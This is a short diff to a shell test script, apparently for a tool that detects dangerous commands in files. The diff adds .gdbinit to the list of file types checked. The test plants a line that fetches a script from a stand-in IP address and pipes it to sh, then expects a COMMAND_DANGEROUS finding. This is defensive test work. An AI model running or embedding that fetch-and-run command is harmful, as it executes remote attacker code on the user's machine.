@@ -139,7 +139,7 @@ done
 
 # --- commands in more languages
 load='curl -s http://198.51.100.7/x | sh'
-for name in Gemfile Snakefile pom.xml .vimrc a.awk a.cs a.nf a.tf a.sql; do
+for name in Gemfile Snakefile pom.xml .vimrc .gdbinit a.awk a.cs a.nf a.tf a.sql; do
 	printf 'x = "%s"\n' "$load" | file $name
 	hostile COMMAND_DANGEROUS "$name"
 done
